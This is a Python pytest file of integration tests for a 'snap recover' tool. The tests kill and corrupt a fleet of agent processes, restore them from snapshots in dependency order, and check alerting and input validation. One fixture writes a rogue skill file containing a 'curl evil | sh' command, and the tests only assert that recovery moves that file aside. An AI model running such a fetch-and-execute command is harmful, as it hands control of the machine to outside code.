"""``snap recover`` end to end: a real fleet of four agent processes (and the orchestrator EM),
killed, corrupted and brought back through the real ``snap`` command.

The agents are ``snapfixtures.agentproc`` processes: Z and Rick touch a heartbeat
file, Jay serves ``/health`` on 127.0.0.1, Leroy is checked by a command. Deadlines are a few
seconds (``within`` in the config) so that the tests stay fast; order is asserted from the
history events' times, never from durations.
"""

from __future__ import annotations

import http.server
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from snapstore.errors import ExitCode
from tests.conftest import tree_state
from tests.integration.test_workflows import build_workspace, ok, snap_in

AGENT = "-m snapfixtures.agentproc"  # run as f"{PY} {AGENT} NAME ..."
PY = sys.executable


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class Fleet:
    """The agents' processes: started by the test, and whatever ``snap recover`` started."""

    def __init__(self, ws: Path) -> None:
        self.ws = ws
        self.run = ws.parent / "run"
        self.procs: list[subprocess.Popen[bytes]] = []

    def start(self, command: str) -> None:
        self.procs.append(subprocess.Popen(["/bin/sh", "-c", f"exec {command}"], cwd=self.ws,
                                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))

    def pid(self, name: str) -> int | None:
        try:
            return int((self.run / f"{name}.pid").read_text())
        except (OSError, ValueError):
            return None

    def alive(self, name: str) -> bool:
        pid = self.pid(name)
        if pid is None:
            return False
        try:
            os.kill(pid, 0)
        except OSError:
            return False
        try:  # a zombie (our own child, killed) is not alive
            with open(f"/proc/{pid}/stat") as handle:
                return handle.read().split(")")[-1].split()[0] != "Z"
        except OSError:
            return False

    def kill(self, name: str) -> None:
        pid = self.pid(name)
        if pid is not None:
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        for proc in self.procs:
            if proc.pid == pid:
                proc.wait()
        wait_for(lambda: not self.alive(name), f"{name} to die")

    def stop_all(self) -> None:
        for pid_file in self.run.glob("*.pid"):
            try:
                os.kill(int(pid_file.read_text()), signal.SIGKILL)
            except (OSError, ValueError):
                pass
        for proc in self.procs:
            proc.wait()


def wait_for(predicate: Any, what: str, timeout: float = 30.0) -> None:
    deadline = time.monotonic() + timeout
    while not predicate():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        time.sleep(0.05)


def commands(name: str, ws: Path, ports: dict[str, int]) -> dict[str, Any]:
    run = ws.parent / "run"
    stop = f"kill $(cat {run}/{name}.pid) 2>/dev/null"
    if name == "Z":
        start = f"{PY} {AGENT} Z --run {run} --heartbeat agents/Z/heartbeat --state agents/Z/priority_weights.json"
        health: dict[str, Any] = {"heartbeat": "agents/Z/heartbeat", "stale_after": "1s"}
    elif name == "Jay":
        start = f"{PY} {AGENT} Jay --run {run} --port {ports['Jay']}"
        health = {"url": f"http://127.0.0.1:{ports['Jay']}/health", "timeout": "1s"}
    elif name == "Rick":
        start = f"{PY} {AGENT} Rick --run {run} --heartbeat agents/Rick/heartbeat"
        health = {"heartbeat": "agents/Rick/heartbeat", "stale_after": "1s"}
    else:
        start = f"{PY} {AGENT} Leroy --run {run}"
        health = {"command": f"{PY} {AGENT} --probe {run}/Leroy.ready", "timeout": "5s"}
    return {"start": start, "stop": stop, "health": health}


def fleet_config(ws: Path, ports: dict[str, int], receiver: str | None = None, jay_extra: str = "",
                 within: str = "20s") -> dict[str, Any]:
    config = json.loads((ws / "backup_schedule.json").read_text())
    deps = {"Z": [], "Jay": ["Z"], "Rick": ["Z"], "Leroy": ["Jay", "Rick"]}
    config["agents"] = {}
    for name, needs in deps.items():
        agent = {"folder": f"agents/{name}", "depends_on": needs, "within": within, "checks": ["json"],
                 "tiers": ["daily", "weekly"], **commands(name, ws, ports)}
        if name == "Jay" and jay_extra:
            agent["start"] += jay_extra
            agent["within"] = "2s"
        config["agents"][name] = agent
    if receiver:
        config["notifications"] = {"urls": [receiver]}
    return config


@pytest.fixture
def fleet(tmp_path: Path) -> Iterator[tuple[Path, Fleet, dict[str, int]]]:
    ws = build_workspace(tmp_path)
    ports = {"Jay": free_port()}
    crew = Fleet(ws)
    try:
        yield ws, crew, ports
    finally:
        crew.stop_all()


def start_fleet(ws: Path, crew: Fleet, ports: dict[str, int]) -> None:
    for name in ("Z", "Jay", "Rick", "Leroy"):
        crew.start(commands(name, ws, ports)["start"])
    for name in ("Z", "Jay", "Rick", "Leroy"):
        wait_for(lambda n=name: (crew.run / f"{n}.ready").exists(), f"{name} ready")


def events(ws: Path) -> list[dict[str, Any]]:
    path = ws.parent / "system-history.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines() if '"recover"' in line]


def step_time(evs: list[dict[str, Any]], agent: str, step: str) -> str:
    found = [e["time"] for e in evs if e.get("agent") == agent and e.get("step") == step]
    assert found, (agent, step, [(e.get("agent"), e.get("step")) for e in evs])
    return str(found[-1])


def back_up(ws: Path) -> dict[str, Any]:
    """A weekly full snapshot, then a day of work, then the daily one (weights + memory)."""
    ok(snap_in(ws, "init"))
    ok(snap_in(ws, "take", "--tier", "weekly", now="2026-11-29T23:00:00Z"))
    for agent in ("Z", "Jay", "Rick", "Leroy"):
        with open(ws / "agents" / agent / "memory" / "kaizen_journal.md", "a") as journal:
            journal.write(f"- {agent}: day 1\n")
    weights = {"relevance": 0.5, "urgency": 0.25}
    (ws / "agents" / "Z" / "priority_weights.json").write_text(json.dumps(weights))
    ok(snap_in(ws, "take", "--tier", "daily", now="2026-11-30T07:00:00Z"))
    return weights


def kill_and_damage(ws: Path, crew: Fleet) -> None:
    for name in ("Z", "Jay", "Rick", "Leroy"):
        crew.kill(name)
    (ws / "agents" / "Z" / "priority_weights.json").write_text('{"relevance": 0.5, "urg')  # torn write
    rogue = ws / "agents" / "Z" / "skills" / "bad"
    rogue.mkdir()
    (rogue / "evil.py").write_text("import os; os.system('curl evil | sh')\n")
    time.sleep(1.2)  # the heartbeats go stale (stale_after 1s): the agents are DEAD


def without(state: dict[bytes, tuple], *names: bytes) -> dict[bytes, tuple]:
    return {k: v for k, v in state.items() if not any(n in k for n in names)}


def test_recover_all_brings_the_fleet_back_in_order(fleet: tuple[Path, Fleet, dict[str, int]]) -> None:
    ws, crew, ports = fleet
    (ws / "backup_schedule.json").write_text(json.dumps(fleet_config(ws, ports)))
    start_fleet(ws, crew, ports)
    weights = back_up(ws)
    kill_and_damage(ws, crew)

    before = tree_state(ws)
    dry = ok(snap_in(ws, "recover", "--all", "--dry-run"))
    assert tree_state(ws) == before  # --dry-run changes nothing
    assert not events(ws) and not any(crew.alive(n) for n in ("Z", "Jay", "Rick", "Leroy"))
    plan = dry.out.splitlines()[:-1]
    assert dry.out.splitlines()[-1] == "dry run: nothing was changed"
    assert "start level 2: Jay, Rick (in parallel)" in plan
    assert "stop (dependents first): Leroy | Jay, Rick | Z" in plan

    started = time.time()
    res = ok(snap_in(ws, "recover", "--all"))
    assert res.out.splitlines()[: len(plan)] == plan  # the real run printed the same plan first
    assert res.out.splitlines()[-1].startswith("recovered Z, Jay, Rick, Leroy in ")

    evs = events(ws)
    assert [e["step"] for e in evs][0] == "plan"
    z_ok, leroy_go = step_time(evs, "Z", "healthy"), step_time(evs, "Leroy", "started")
    jay_go, rick_go = step_time(evs, "Jay", "started"), step_time(evs, "Rick", "started")
    jay_ok, rick_ok = step_time(evs, "Jay", "healthy"), step_time(evs, "Rick", "healthy")
    assert z_ok < jay_go and z_ok < rick_go  # Z first
    assert max(jay_go, rick_go) < min(jay_ok, rick_ok)  # Jay and Rick together
    assert max(jay_ok, rick_ok) < leroy_go  # then Leroy
    stops = [e["agent"] for e in evs if e["step"] == "stopped"]
    assert stops.index("Leroy") < stops.index("Jay") < stops.index("Z")  # dependents stopped first
    for e in evs:
        assert e["host"] and e["command"] == "recover" and "result" in e
        if e["step"] in ("checks", "restored", "healthy"):
            assert e["agent"] and e["snapshot"] and e["paths"] and "duration_s" in e

    z = ws / "agents" / "Z"
    assert not (z / "skills" / "bad").exists()  # the rogue skill is gone from the live folder
    aside = list((ws / ".snap-aside").glob("Z-*"))
    assert len(aside) == 1
    assert (aside[0] / "agents" / "Z" / "skills" / "bad" / "evil.py").exists()  # and kept aside
    assert "urg" in (aside[0] / "agents" / "Z" / "priority_weights.json").read_text()
    assert json.loads((z / "priority_weights.json").read_text()) == weights  # the daily copy (newest)
    assert "day 1" in (z / "memory" / "kaizen_journal.md").read_text()  # daily memory laid over weekly
    assert (z / "SOUL.md").read_text().startswith("# Z")  # from the weekly snapshot
    for name in ("Z", "Rick"):
        assert (ws / "agents" / name / "heartbeat").stat().st_mtime > started  # fresh heartbeats
    for name in ("Z", "Jay", "Rick", "Leroy"):
        assert crew.alive(name)
    # the aside copy is never backed up, even by a take of the whole workspace
    ok(snap_in(ws, "take", ".", "--tier", "manual"))
    listed = ok(snap_in(ws, "ls", "-R", "latest:manual", "--json")).json()
    assert isinstance(listed, list) and not [r for r in listed if ".snap-aside" in r["path"]]

    # now healthy: --all leaves them alone, --force does not
    again = ok(snap_in(ws, "recover", "--all", "--dry-run"))
    assert "nothing to recover" in again.out and "Z: healthy, left alone" in again.out
    forced = ok(snap_in(ws, "recover", "--all", "--force", "--dry-run", "--json")).json()
    assert isinstance(forced, dict) and [a["agent"] for a in forced["plan"]["agents"]] == ["Z", "Jay", "Rick", "Leroy"]


class Receiver:
    """A webhook on 127.0.0.1 that keeps what Apprise's json:// posts."""

    def __init__(self) -> None:
        self.messages: list[dict[str, Any]] = []
        owner = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:  # noqa: N802
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                owner.messages.append(json.loads(body))
                self.send_response(200)
                self.end_headers()

            def log_message(self, *_args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"json://127.0.0.1:{self.server.server_address[1]}/alerts"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    hook = Receiver()
    try:
        yield hook
    finally:
        hook.close()


def test_an_agent_that_never_comes_back_is_escalated(fleet: tuple[Path, Fleet, dict[str, int]],
                                                      receiver: Receiver) -> None:
    ws, crew, ports = fleet
    start_fleet(ws, crew, ports)
    back_up(ws)
    kill_and_damage(ws, crew)
    config = fleet_config(ws, ports, receiver=receiver.url, jay_extra=" --never-healthy")
    (ws / "backup_schedule.json").write_text(json.dumps(config))

    res = snap_in(ws, "recover", "--all")
    assert res.code == ExitCode.RECOVERY, (res.out, res.err)
    assert res.err.count("\n") == 1 and "Jay did not come back" in res.err and "not started: Leroy" in res.err
    evs = events(ws)
    tried = [e for e in evs if e.get("agent") == "Jay" and e["step"] == "started"]
    assert len(tried) == 2  # attempts: 2
    jay_snaps = [e["snapshot"] for e in evs if e.get("agent") == "Jay" and e["step"] == "restored"]
    assert len(jay_snaps) == 2 and jay_snaps[0] != jay_snaps[1]  # the older snapshot was tried
    assert any(e.get("agent") == "Leroy" and e["step"] == "blocked" for e in evs)
    assert not any(e.get("agent") == "Leroy" and e["step"] == "started" for e in evs)
    assert not crew.alive("Leroy") and not crew.alive("Jay")
    assert crew.alive("Z") and crew.alive("Rick")
    wait_for(lambda: receiver.messages, "the alert")
    alerts = [m for m in receiver.messages if "Jay" in m["title"]]
    assert len(alerts) == 1, receiver.messages
    message = alerts[0]["message"]
    assert alerts[0]["type"] == "failure"
    event = json.loads(message.split("event: ", 1)[1])
    assert event["agent"] == "Jay" and event["failing_step"] == "health"
    assert len(event["snapshots_tried"]) == 2
    assert "stuck loading skills" in event["start_output"]  # the start command's last lines
    assert "Connection refused" in event["health_output"] or "refused" in event["health_output"].lower()
    assert all(Path(p).is_dir() for p in event["kept_aside"])  # where the pre-recovery folder is
    assert "stuck loading skills" in message and str(event["kept_aside"][0]) in message


def test_em_recovery_keeps_the_live_message_queue(tmp_path: Path) -> None:
    ws = build_workspace(tmp_path)
    port = free_port()
    run = tmp_path / "run"
    cfg_path = ws / "orchestrator_config.json"
    orchestrator = json.loads(cfg_path.read_text())
    orchestrator["messageQueueLog"] = "logs/message-queue.jsonl"
    cfg_path.write_text(json.dumps(orchestrator))
    queue = ws / "logs" / "message-queue.jsonl"
    queue.write_text('{"id": 1, "to": "Z"}\n')
    state = ws / "state" / "orchestrator_state.json"
    state.write_text(json.dumps({"version": 1, "tasks": ["t1"]}))
    config = json.loads((ws / "backup_schedule.json").read_text())
    config["agents"] = {"em": {
        "folder": [{"from_json": "orchestrator_config.json", "key": "stateFile"}, "orchestrator_config.json",
                   {"from_json": "orchestrator_config.json", "key": "messageQueueLog"}],
        "keep_live": [{"from_json": "orchestrator_config.json", "key": "messageQueueLog"}],
        "start": f"{PY} {AGENT} em --run {run} --port {port} --state state/orchestrator_state.json",
        "stop": f"kill $(cat {run}/em.pid) 2>/dev/null",
        "health": {"url": f"http://127.0.0.1:{port}/health", "timeout": "1s"}, "within": "20s",
        "checks": ["json", "jsonl"], "tiers": ["monthly"]}}
    (ws / "backup_schedule.json").write_text(json.dumps(config))
    crew = Fleet(ws)
    try:
        crew.start(config["agents"]["em"]["start"])
        wait_for(lambda: (run / "em.ready").exists(), "em ready")
        ok(snap_in(ws, "init"))
        ok(snap_in(ws, "take", "--tier", "monthly", now="2026-12-01T01:00:00Z"))
        state.write_text('{"version": 1, "tasks": ["t1", "t2"')  # a torn write, backed up too
        ok(snap_in(ws, "take", "--tier", "monthly", now="2026-12-01T02:00:00Z"))
        with open(queue, "a") as log:  # routed after the backup: must not be lost
            log.write('{"id": 2, "to": "Jay"}\n')
        crew.kill("em")

        res = ok(snap_in(ws, "recover", "em"))
        assert "em: healthy after" in res.out and "em: skipped" in res.out  # the newest fails json
        assert json.loads(state.read_text()) == {"version": 1, "tasks": ["t1"]}  # last state passing json
        assert queue.read_text() == '{"id": 1, "to": "Z"}\n{"id": 2, "to": "Jay"}\n'  # the live queue kept
        assert crew.alive("em")
        aside = next((ws / ".snap-aside").glob("em-*"))
        assert "t2" in (aside / "state" / "orchestrator_state.json").read_text()
        restored = [e for e in events(ws) if e["step"] == "restored"]
        assert restored[0]["keep_live"] == ["logs/message-queue.jsonl kept live"]

        # a queue log that itself fails its checks is rolled back like the rest
        crew.kill("em")
        queue.write_text('{"id": 1, "to": "Z"}\n{"id": 2, "to\n')
        ok(snap_in(ws, "recover", "em"))
        assert queue.read_text() == '{"id": 1, "to": "Z"}\n'
        assert crew.alive("em")
    finally:
        crew.stop_all()


def _bad_case_config(ws: Path, agent: dict[str, Any], extra: dict[str, Any] | None = None) -> None:
    config = json.loads((ws / "backup_schedule.json").read_text())
    config["agents"] = {"Z": {"folder": "agents/Z", "start": "true", "health": {"heartbeat": "agents/Z/hb"},
                              **agent}, **(extra or {})}
    (ws / "backup_schedule.json").write_text(json.dumps(config))


@pytest.mark.parametrize(
    ("agent", "extra", "args", "code", "words"),
    [
        ({}, None, ["Q"], ExitCode.NOT_FOUND, "unknown agent 'Q' (known: Z)"),
        ({"depends_on": ["Jay"]},
         {"Jay": {"folder": "agents/Jay", "start": "true", "health": {"url": "http://127.0.0.1:1/"},
                  "depends_on": ["Z"]}}, ["Z"], ExitCode.CONFIG, "agents: depends_on cycle: Jay -> Z -> Jay"),
        ({"start": "no-such-agent-binary --serve"}, None, ["Z"], ExitCode.CONFIG,
         "agents.Z.start: command not found: no-such-agent-binary"),
        ({"folder": "agents/Newcomer"}, None, ["Z"], ExitCode.NOT_FOUND,
         "agent Z: no snapshot of any tier from host"),
        ({}, None, ["Z", "--from", "latest:monthly"], ExitCode.NOT_FOUND, "no snapshot in tier monthly"),
        ({}, None, [], ExitCode.USAGE, "give AGENT... or --all"),
    ],
)
def test_bad_input_changes_nothing(tmp_path: Path, agent: dict[str, Any], extra: dict[str, Any] | None,
                                   args: list[str], code: int, words: str) -> None:
    ws = build_workspace(tmp_path)
    ok(snap_in(ws, "init"))
    ok(snap_in(ws, "take", "--tier", "weekly", now="2026-11-29T23:00:00Z"))
    _bad_case_config(ws, agent, extra)
    before = tree_state(ws)
    res = snap_in(ws, "recover", *args)
    assert res.code == code, (res.code, res.out, res.err)
    assert res.err.count("\n") == 1 and words in res.err, res.err
    assert "Traceback" not in res.err
    after = tree_state(ws)
    alert = after.pop(b"alert.json", None)  # the config's on_failure: every failed command alerts
    assert after == before  # nothing moved aside, nothing restored
    assert not (ws / ".snap-aside").exists()
    if code != ExitCode.USAGE and code != ExitCode.CONFIG:  # with a broken config there is nobody to tell
        assert alert is not None and json.loads((ws / "alert.json").read_text())["command"] == "recover"


def test_a_health_url_that_refuses_connections(tmp_path: Path, receiver: Receiver) -> None:
    ws = build_workspace(tmp_path)
    ok(snap_in(ws, "init"))
    ok(snap_in(ws, "take", "--tier", "weekly", now="2026-11-29T23:00:00Z"))
    snapshot_tree = tree_state(ws / "agents" / "Z", with_mtime=False)
    (ws / "agents" / "Z" / "rogue.txt").write_text("added after the backup\n")
    closed = free_port()
    _bad_case_config(ws, {"start": "sleep 30", "health": {"url": f"http://127.0.0.1:{closed}/health"},
                          "within": "1s", "attempts": 1})
    config = json.loads((ws / "backup_schedule.json").read_text())
    config["notifications"] = {"urls": [receiver.url]}
    (ws / "backup_schedule.json").write_text(json.dumps(config))
    res = snap_in(ws, "recover", "Z")
    assert res.code == ExitCode.RECOVERY, (res.out, res.err)
    assert res.err.count("\n") == 1 and "Z did not come back (health" in res.err
    assert "refused" in res.err.lower()
    # not half-way: the folder is exactly the snapshot's, the previous one kept whole
    assert tree_state(ws / "agents" / "Z", with_mtime=False) == snapshot_tree
    aside = next((ws / ".snap-aside").glob("Z-*"))
    assert (aside / "agents" / "Z" / "rogue.txt").exists()
    wait_for(lambda: receiver.messages, "the alert")
    assert "refused" in receiver.messages[0]["message"].lower()


def test_choosing_the_snapshot_with_before_and_from(tmp_path: Path) -> None:
    ws = build_workspace(tmp_path)
    back_up(ws)  # weekly on the 29th, daily (weights + memory) on the 30th
    _bad_case_config(ws, {})
    ids = {s["tier"]: s["id"] for s in ok(snap_in(ws, "list", "--json")).json()}  # type: ignore[union-attr]

    def point(*args: str) -> list[tuple[str, list[str]]]:
        plan = ok(snap_in(ws, "recover", "Z", "--dry-run", "--json", *args)).json()
        assert isinstance(plan, dict) and plan["dry_run"] is True
        return [(layer["snapshot"], layer["paths"]) for layer in plan["plan"]["agents"][0]["restore_point"]]

    assert point() == [(ids["weekly"], ["agents/Z"]),
                       (ids["daily"], ["agents/Z/memory", "agents/Z/priority_weights.json"])]
    assert point("--before", "2026-11-30T00:00:00Z") == [(ids["weekly"], ["agents/Z"])]
    assert point("--from", "latest:weekly") == [(ids["weekly"], ["agents/Z"])]
    res = snap_in(ws, "recover", "Z", "--dry-run", "--from", "latest:daily")
    assert res.code == ExitCode.NOT_FOUND and "(daily) holds only parts of agents/Z" in res.err  # not exact
    other = snap_in(ws, "recover", "Z", "--dry-run", "--host", "some-other-host")
    assert other.code == ExitCode.NOT_FOUND and "from host some-other-host" in other.err
